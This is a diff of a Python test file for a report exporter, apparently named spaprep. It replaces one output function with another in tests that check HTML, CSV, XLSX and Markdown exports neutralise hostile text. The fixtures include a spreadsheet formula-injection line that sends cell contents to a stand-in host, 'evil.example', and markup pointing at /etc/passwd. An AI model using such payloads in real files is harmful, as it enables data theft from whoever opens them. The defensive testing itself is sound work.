@@ -31,10 +31,11 @@ from spaprep.report.content.characters import without_hidden
 from spaprep.report.content.links import web_address
 from spaprep.report.content.options import CallSheetLayout
 from spaprep.report.formats.csv import safe_cell
-from spaprep.report.formats.formats import Format, report_in
+from spaprep.report.formats.formats import Format
 from spaprep.report.formats.html import html_text
 from spaprep.report.formats.markdown import markdown_text
 from spaprep.report.pdf.text import printable, wrapped
+from spaprep.report.writing import document_bytes
 
 MARKUP = '<b>Bold</b> <img src="/etc/passwd"> &amp; <jane@example.com>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -114,7 +115,9 @@ def test_every_text_is_read_back_from_the_web_page_as_typed(text: str) -> None:
 @pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
 def test_the_web_page_shows_it_and_obeys_none_of_it(text: str) -> None:
     reader, plain = (
-        read_html(report_in(Format.HTML, a_document(contents, private=True, notes=True)).decode())
+        read_html(
+            document_bytes(a_document(contents, private=True, notes=True), Format.HTML).decode()
+        )
         for contents in (a_plan_that_says(text), a_plan_that_says("x"))
     )
     assert reader.text.count(text) >= 8
@@ -150,7 +153,9 @@ def test_a_text_makes_no_heading_and_no_list_of_itself(text: str) -> None:
 def test_a_spreadsheet_takes_no_cell_for_a_formula(start: str) -> None:
     assert safe_cell(f"{start}1+1").startswith("'")
     document = a_document(a_plan_that_says(f"{start}1+1"), private=True)
-    rows = csv.reader(io.StringIO(report_in(Format.CSV, document).decode("utf-8-sig"), newline=""))
+    rows = csv.reader(
+        io.StringIO(document_bytes(document, Format.CSV).decode("utf-8-sig"), newline="")
+    )
     cells = [cell for row in rows for cell in row]
     assert sum("1+1" in cell for cell in cells) > 8
     assert not any(cell.lstrip().startswith(("=", "+", "-", "@", "＝")) for cell in cells)
@@ -164,7 +169,7 @@ def test_no_separator_of_any_country_cuts_a_formula_out_of_the_table(
     separator: str, text: str
 ) -> None:
     document = a_document(a_plan_that_says(text), private=True)
-    written = report_in(Format.CSV, document).decode("utf-8-sig")
+    written = document_bytes(document, Format.CSV).decode("utf-8-sig")
     assert all(line.startswith('"') for line in written.split("\r\n") if line)
     rows = csv.reader(io.StringIO(written, newline=""), delimiter=separator)
     cells = [cell for row in rows for cell in row]
@@ -181,7 +186,7 @@ def test_what_is_no_formula_is_written_as_it_is() -> None:
 @pytest.mark.parametrize("text", [*TEXTS.values(), "http://evil.example", "@SUM(1)", "-1"])
 def test_every_cell_of_the_workbook_is_a_plain_text(text: str) -> None:
     document = a_document(a_plan_that_says(text), private=True, notes=True)
-    book = openpyxl.load_workbook(io.BytesIO(report_in(Format.XLSX, document)))
+    book = openpyxl.load_workbook(io.BytesIO(document_bytes(document, Format.XLSX)))
     cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
     assert {cell.data_type for cell in cells} <= {"s", "n"}
     assert not any(cell.hyperlink for cell in cells)
@@ -212,8 +217,8 @@ def test_the_note_stands_at_the_foot_of_each_page_that_has_a_box_and_of_no_other
 @pytest.mark.parametrize("format_", [Format.HTML, Format.MARKDOWN])
 def test_a_text_says_what_its_boxes_mean(format_: Format) -> None:
     note = "□ stands for a character that can’t be shown."
-    assert note in report_in(format_, a_document(a_plan_that_says("Glow\u202eBar"))).decode()
-    assert note not in report_in(format_, a_document()).decode()
+    assert note in document_bytes(a_document(a_plan_that_says("Glow\u202eBar")), format_).decode()
+    assert note not in document_bytes(a_document(), format_).decode()
 
 
 def test_nothing_is_noted_where_every_character_can_be_drawn() -> None:
@@ -228,7 +233,9 @@ def test_a_call_sheet_notes_what_it_can_not_draw() -> None:
 @pytest.mark.parametrize("odd", HIDDEN)
 @pytest.mark.parametrize("format_", [Format.CSV, Format.HTML, Format.MARKDOWN])
 def test_what_is_hidden_is_shown_in_every_text(odd: str, format_: Format) -> None:
-    text = report_in(format_, a_document(a_plan_that_says(f"Glow{odd}Bar"))).decode("utf-8-sig")
+    text = document_bytes(a_document(a_plan_that_says(f"Glow{odd}Bar")), format_).decode(
+        "utf-8-sig"
+    )
     assert "Glow□Bar" in text
     assert odd not in text
 
@@ -303,17 +310,18 @@ import json, os, sys
 sys.path[:0] = {path!r}
 from report.formats.test_hostile_text import MARKUP, a_plan_that_says
 from support.report_documents import CATALOGUE, a_document
-from spaprep.report.pdf.call_sheet import call_sheet_bytes
-from spaprep.report.formats.formats import Format, report_in
+from spaprep.report.content.call_sheet import call_sheet
+from spaprep.report.formats.formats import Format
+from spaprep.report.writing import document_bytes
 from spaprep.report.content.options import CallSheetOptions
 
 def everything(text):
     contents = a_plan_that_says(text)
     document = a_document(contents, private=True, notes=True)
     for format_ in Format:
-        report_in(format_, document)
+        document_bytes(document, format_)
     clinics = [dossier.clinic for dossier in contents.dossiers]
-    call_sheet_bytes(contents.plan, CATALOGUE, clinics, CallSheetOptions())
+    document_bytes(call_sheet(contents.plan, CATALOGUE, clinics, CallSheetOptions()))
 
 everything("once, for what is loaded when it is first used")
 heard = []
